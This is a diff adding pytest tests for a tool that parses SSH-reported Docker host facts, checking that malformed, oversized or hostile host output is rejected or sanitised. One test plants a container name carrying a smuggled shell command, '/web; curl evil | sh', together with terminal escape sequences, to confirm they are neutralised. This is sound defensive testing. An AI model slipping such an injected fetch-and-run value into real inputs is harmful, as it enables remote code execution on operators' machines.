@@ -3,20 +3,22 @@
 Boards with their own engine and sshd: tests/e2e/test_fleet_check.py.
 """
 
+import json
 import os
 import shutil
 import threading
 import time
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from pathlib import Path
 from types import SimpleNamespace
+from typing import Any
 
 import pytest
 
 from clients import host_facts
 from clients.host_facts import FreshFacts, HostError, HostFacts, Listener, Obstacle, ask_host
 from clients.ssh import LOGINS
-from tests.unit.host_recordings import DIND, NODE, RASPBERRY_PI_4, RecordedHost, on_path, recorded_host
+from tests.unit.host_recordings import DIND, DISK, NODE, RASPBERRY_PI_4, RecordedHost, on_path, recorded_host
 
 PI = "ssh://pi@attic.lan"
 SHELLS = [shell for shell in ("dash", "bash --posix") if shutil.which(shell.split()[0])]
@@ -203,6 +205,86 @@ def test_missing_docker_missing_permission_and_a_stopped_engine_are_distinguishe
     assert refused() == (Obstacle.NO_ENGINE, "Cannot connect to the Docker daemon")
     host.lacks("docker")
     assert refused() == (Obstacle.NO_DOCKER, "the user pi has no docker command")
+
+
+def recorded(without: str = "", **parts: str) -> str:
+    """Output of the script on a Raspberry Pi 4, with other text in some parts, or without one of them."""
+    answers = {
+        "docker": "/usr/bin/docker",
+        "info": json.dumps(RASPBERRY_PI_4),
+        "containers": json.dumps(NODE),
+        "kernel": "6.1.21-v8+",
+        "user": "pi",
+        "bits": "64",
+        "date": str(int(time.time())),
+        "swap": "SwapTotal: 102396 kB",
+        "listeners": "",
+        "disk": DISK,
+        "end": "",
+        **parts,
+    }
+    return "".join(f"\n=skyinfra {name}\n{text}\n" for name, text in answers.items() if name != without)
+
+
+def altered(recording: Mapping[str, Any], **fields: object) -> str:
+    return json.dumps({**recording, **fields})
+
+
+@pytest.mark.parametrize(
+    "printed",
+    [
+        recorded(info="[]"),
+        recorded(info="null"),
+        recorded(info="[" * 100_000),
+        recorded(info='{"DockerRootDir": "/var/lib/docker"}'),
+        recorded(info='{"ServerErrors": 5}'),
+        recorded(info=altered(RASPBERRY_PI_4, MemTotal="4 GB")),
+        recorded(info=altered(RASPBERRY_PI_4, MemTotal=-1)),
+        recorded(info=altered(RASPBERRY_PI_4, MemTotal=10**400)),
+        recorded(info=altered(RASPBERRY_PI_4, ServerVersion=20)),
+        recorded(info=altered(RASPBERRY_PI_4, Architecture=None)),
+        recorded(containers="[]"),
+        recorded(containers="Error: No such container"),
+        recorded(containers=altered(NODE, Ports=[1])),
+        recorded(containers=altered(NODE, Ports={"6420/tcp": [{"HostIp": "", "HostPort": "x"}]})),
+        recorded(containers=altered(NODE, Mounts=[{"Name": {"x": 1}}])),
+        recorded(listeners="0A"),
+        recorded(listeners="0: xyz:1914 0 0A 0 0 0 1000"),
+        *(recorded(without=part) for part in ("docker", "info", "containers", "bits", "disk")),
+    ],
+)
+def test_an_answer_of_another_form_than_dockers_is_the_hosts_fault(host: RecordedHost, printed: str) -> None:
+    """It was an internal error, which ended `fleet check` and every preview for all hosts."""
+    host.prints("ssh", printed)
+    obstacle, said = refused()
+    assert obstacle is Obstacle.OTHER_FORM
+    assert len(said) < 300
+    assert said.isprintable()
+
+
+@pytest.mark.parametrize("date", ["9" * 30, "9" * 5000, "\u00b2", "253402300800"])
+def test_a_number_that_no_clock_and_no_disk_has_is_unknown(host: RecordedHost, date: str) -> None:
+    host.prints(
+        "ssh", recorded(date=date, swap=f"SwapTotal: {'9' * 400} kB", disk=f"x 1 1 {'9' * 5000} 1% /")
+    )
+    found = ask_host(PI)
+    assert (found.ahead, found.swap, found.free) == (None, None, None)
+
+
+def test_words_of_a_host_are_no_commands_for_a_terminal_or_a_shell(host: RecordedHost) -> None:
+    """They are in the table, in every `up`, and in commands that a message tells the operator to run."""
+    info = altered(
+        RASPBERRY_PI_4,
+        ServerVersion="20.10\x1b]0;title\x07" + "x" * 1000,
+        Architecture="aarch64\x1b[2J",
+        Driver="vfs\r",
+    )
+    host.prints("ssh", recorded(info=info, containers=altered(NODE, Name="/web; curl evil | sh\x1b[2J")))
+    found = ask_host(PI)
+    assert (found.machine, found.driver) == ("aarch64?[2J", "vfs?")
+    assert found.version.startswith("20.10?]0;title?x")
+    assert len(found.version) < 100
+    assert [container.name for container in found.containers] == ["web??curl?evil???sh??2J"]
 
 
 def test_a_host_that_hangs_is_given_up_with_all_that_ssh_started(
